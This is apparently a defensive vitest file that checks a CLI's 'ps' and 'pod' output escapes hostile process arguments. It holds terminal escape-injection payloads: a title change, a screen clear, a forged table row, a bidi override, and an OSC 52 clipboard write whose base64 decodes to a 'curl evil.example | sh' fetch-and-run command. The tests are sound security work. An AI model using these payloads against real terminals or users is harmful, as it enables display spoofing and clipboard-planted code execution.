// A real process whose argv carries terminal escapes (a title change, a screen clear, an OSC 52
// clipboard write, a bidi override) and a newline with a forged row after it, seen through
// `ps` and through `pod` (the process moved into a fake pod's container cgroups). Tables show
// every control character escaped; JSON keeps the argv exact.
import {type ChildProcess, spawn} from 'node:child_process'
import {readFileSync, writeFileSync} from 'node:fs'
import {join, resolve} from 'node:path'
import {execa} from 'execa'
import {afterAll, beforeAll, describe, expect, it} from 'vitest'
import {type FakePod, createFakePod} from '../../helpers/fake-pod.js'
import {itemsOf} from '../../helpers/volatile.js'

const ROOT = resolve(__dirname, '../../..')
const IS_ROOT = process.getuid?.() === 0
const run = IS_ROOT ? describe : describe.skip

const ARGV0 = '\x1b]0;owned\x07\x1b[2Jnode'
const CLIPBOARD = '\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07'
const FORGE = 'ok\nFORGED   1   2   S   default/victim   app   /bin/true'
const BIDI = '\u202etxt.exe'
/** control characters a terminal acts on: none may reach stdout raw */
const RAW_CONTROL = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/

function cli(args: string[]) {
  return execa(process.execPath, [join(ROOT, 'bin/run.js'), ...args], {reject: false, env: {NO_COLOR: '1', NODE_ENV: 'production'}, timeout: 60_000})
}

run('a process with hostile argv', () => {
  let child: ChildProcess
  let pod: FakePod | undefined
  beforeAll(async () => {
    child = spawn(process.execPath, ['-e', 'setInterval(() => {}, 1e6)', CLIPBOARD, FORGE, BIDI], {argv0: ARGV0, stdio: 'ignore'})
    await new Promise((r) => setTimeout(r, 200))
    expect(readFileSync(`/proc/${child.pid}/cmdline`, 'utf8').split('\0')[0]).toBe(ARGV0)
  })
  afterAll(async () => {
    child?.kill('SIGKILL')
    await pod?.destroy()
  })

  it('ps: every control character escaped, no forged row; -o json exact', async () => {
    for (const output of ['table', 'wide']) {
      const r = await cli(['ps', '-A', '-o', output])
      expect(r.exitCode, String(r.stderr)).toBe(0)
      const out = String(r.stdout)
      expect(out).not.toMatch(RAW_CONTROL)
      expect(out).not.toMatch(/^FORGED/m)
      const row = out.split('\n').find((l) => l.startsWith(`${child.pid} `))
      expect(row, out).toBeDefined()
      // the default table fits 80 columns (a long command is shortened in the middle); wide shows it whole
      if (output === 'wide') expect(row).toContain('\\x1b]0;owned\\x07\\x1b[2Jnode -e setInterval(() => {}, 1e6) \\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07 ok\\nFORGED   1   2   S   default/victim   app   /bin/true \\u202etxt.exe')
      else expect(row).toContain('\\x1b]0;')
    }
    const json = itemsOf<{pid: number; command: string}>(JSON.parse(String((await cli(['ps', '-A', '-o', 'json'])).stdout)))
    expect(json.find((p) => p.pid === child.pid)?.command).toBe(`${ARGV0} -e setInterval(() => {}, 1e6) ${CLIPBOARD} ${FORGE} ${BIDI}`)
  })

  it('pod: the process in a container, shown escaped in the process tree', async () => {
    pod = await createFakePod()
    for (const dir of pod.cgroupDirs) writeFileSync(join(dir, 'cgroup.procs'), String(child.pid))
    for (const output of ['table', 'wide']) {
      const r = await cli(['pod', pod.name, '-n', pod.namespace, '-o', output])
      expect(r.exitCode, String(r.stderr)).toBe(0)
      const out = String(r.stdout)
      expect(out).not.toMatch(RAW_CONTROL)
      expect(out).not.toMatch(/^\s*FORGED/m)
      if (output === 'wide') expect(out).toMatch(new RegExp(`^\\s+${child.pid} \\(ns ${child.pid}\\) S  \\\\x1b\\]0;owned\\\\x07\\\\x1b\\[2Jnode -e .* ok\\\\nFORGED .*\\\\u202etxt\\.exe$`, 'm'))
    }
    const report = JSON.parse(String((await cli(['pod', pod.name, '-n', pod.namespace, '-o', 'json'])).stdout))
    const processes = JSON.stringify(report.containers)
    expect(processes).toContain(JSON.stringify(ARGV0).slice(1, -1))
  })
})
